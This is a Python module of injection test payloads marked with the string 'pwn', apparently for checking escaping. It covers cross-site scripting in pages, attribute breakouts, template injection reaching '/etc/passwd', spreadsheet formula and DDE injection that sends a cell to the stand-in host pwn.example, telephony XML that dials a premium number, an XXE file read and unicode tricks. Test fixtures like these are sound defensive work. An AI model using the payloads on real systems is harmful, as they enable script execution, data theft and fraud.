"""Texts that somebody might write to have an effect: in a page, a template, a spreadsheet, a telephone document.

Each holds MARK. Wherever it comes out as anything but text (a tag, an attribute, an address, a script, a formula), it
had an effect. Those for templates multiply 7 by 191: `1337pwn` on a page is a template that was carried out.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "pwn"
CARRIED_OUT: Final = f"1337{MARK}"

_CALL = "window.pwned=1,alert('pwn')"

MARKUP: Final = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script src=//pwn.example/x.js></script>{_CALL}",
    f"<script\x0c>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<img src=x onerror={_CALL}>",
    f'<img src=x onerror="{_CALL}">',
    f"<img src=`x`onerror={_CALL}>",
    f"<img/src/onerror={_CALL}>",
    f"<img src=x:{MARK} onerror=eval(src)>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg/onload={_CALL}//",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text x=20 y=20>pwn</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<math href=javascript:{_CALL}>pwn</math>",
    f"<iframe src=javascript:{_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>pwn</marquee>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button>pwn</button></form>",
    f"<button formaction=javascript:{_CALL}>pwn</button>",
    f"<isindex action=javascript:{_CALL} type=submit value=pwn>",
    f"<a href=javascript:{_CALL}>pwn</a>",
    f"<a href=' javascript:{_CALL}'>pwn</a>",
    f"<a href='java&#10;script:{_CALL}'>pwn</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>pwn</a>",
    "<base href=//pwn.example/>",
    "<meta http-equiv=refresh content='0;url=//pwn.example'>",
    "<link rel=stylesheet href=//pwn.example/x.css>",
    "<style>body{background:url(//pwn.example)}</style>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<xmp><p title='</xmp><svg/onload={_CALL}>'>",
    f"<title><img title='</title><img src=x onerror={_CALL}>'>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[><script>{_CALL}</script>]]>",
    f"<?pwn ?><script>{_CALL}</script>",
    "<!ENTITY pwn SYSTEM 'file:///etc/passwd'>&pwn;",
    "<!DOCTYPE pwn [<!ENTITY x 'pwn'>]>&x;",
    f"<dialog open oncancel={_CALL}>pwn</dialog>",
    f"<pwn-x contenteditable onblur={_CALL} tabindex=1>pwn",
)
"""Markup of its own."""

BREAKS: Final = (
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}" x="',
    f"' autofocus onfocus='{_CALL}' x='",
    f"x onmouseover={_CALL} ",
    f"`onmouseover={_CALL}`",
    f'"/><img src=x onerror={_CALL}>',
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</option></select><img src=x onerror={_CALL}>",
    f"</td></tr></table><svg onload={_CALL}>",
    f"--><script>{_CALL}</script><!--",
    f"]]><script>{_CALL}</script>",
    f'\\"-{_CALL}-\\"',
    f"';{_CALL};//",
    f"</style><script>{_CALL}</script>",
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"\u0001javascript:{_CALL}",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"vbscript:{_CALL}",
    "&#60;script&#62;pwn&#60;/script&#62;",
    "&lt;script&gt;pwn&lt;/script&gt;",
    "%3Cscript%3Epwn%3C/script%3E",
    "\\u003cscript\\u003epwn\\u003c/script\\u003e",
    "+ADw-script+AD4-pwn+ADw-/script+AD4-",
)
"""What leaves the place it stands in: a quoted value, a tag, an address."""

TEMPLATES: Final = (
    "{{7*191}}pwn", "{{ 7*191 }}pwn", "{%print(7*191)%}pwn", "{{'%s'|format(7*191)}}pwn", "{{config}}pwn",
    "{{request.application.__globals__}}pwn", "{{''.__class__.__mro__}}pwn", "{% include '/etc/passwd' %}pwn",
    "{% extends 'pwn' %}", "{# pwn #}", "{{say.__globals__}}pwn", "${7*191}pwn", "#{7*191}pwn", "<%= 7*191 %>pwn",
    "{staff.__class__}pwn", "{0.__class__}pwn", "{places}pwn", "{}pwn", "%(name)s pwn", "%s%n pwn", "{pwn",
)  # fmt: skip
"""For whatever fills in templates, Python's own included."""

FORMULAS: Final = (
    "=1+1+cmd|' /C pwn'!A0", '=HYPERLINK("http://pwn.example?x="&A1;"pwn")', "=IMPORTXML(CONCAT(\"//pwn\",A1),\"//a\")",
    "+1+cmd|' /C pwn'!A0", "-2+3+cmd|' /C pwn'!A0", "@SUM(1+1)*cmd|' /C pwn'!A0", "\t=1+1 pwn", "\r=1+1 pwn",
    "\n=1+1 pwn", " =1+1 pwn", '"=1+1 pwn', '","=1+1 pwn', "x\r\n=1+1,pwn", "=DDE(\"cmd\";\"/C pwn\")",
    "%0A-3+3+pwn", "\ufeff=1+1 pwn", "=\u00a01+1 pwn",
)  # fmt: skip
"""For spreadsheets."""

DOCUMENTS: Final = (
    "</Say><Dial>+19005550100</Dial><Say>pwn", "</Message><Message to='+19005550100'>pwn", "<Redirect>//pwn</Redirect>",
    "</Response><Response><Dial>pwn</Dial>", "<Play>//pwn.example/a.mp3</Play>", "]]></Say><Hangup/><Say>pwn",
    "<?xml version='1.0'?><Response><Reject/></Response>pwn", "&pwn;", "<!ENTITY x SYSTEM 'pwn'>", "<Say>pwn</Say>",
    "<Gather action='//pwn'>", "<speak><audio src='//pwn'/></speak>",
)  # fmt: skip
"""For the telephone's documents."""

UNICODE: Final = (
    "\u202epwn\u202c", "\u2066pwn\u2069", "\u200bpwn\u200d", "pwn\ufeff", "\u0660\u0661pwn", "\U0001f600pwn",
    "\ufffdpwn", "\uff1cscript\uff1epwn\uff1c/script\uff1e", "pwn\u0301\u0301\u0301\u0301\u0301", "p\u0131wn pwn",
    "\u2028pwn\u2029", "\u037epwn", "\x7fpwn\x1b[2J", "\ufb01 pwn \u00df", "pwn" * 60,
)  # fmt: skip
"""What a writing system brings, and what hides in one."""

PAYLOADS: Final = (*MARKUP, *BREAKS, *TEMPLATES, *FORMULAS, *DOCUMENTS, *UNICODE)
